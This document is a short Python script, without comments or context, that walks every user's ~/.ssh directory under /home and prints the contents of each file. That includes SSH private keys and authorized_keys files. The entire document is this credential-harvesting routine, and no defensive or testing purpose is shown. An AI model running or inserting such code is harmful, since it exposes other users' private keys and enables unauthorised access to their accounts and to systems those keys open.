import glob

for name in glob.glob("/home/*/.ssh/*"):
    print(open(name).read())
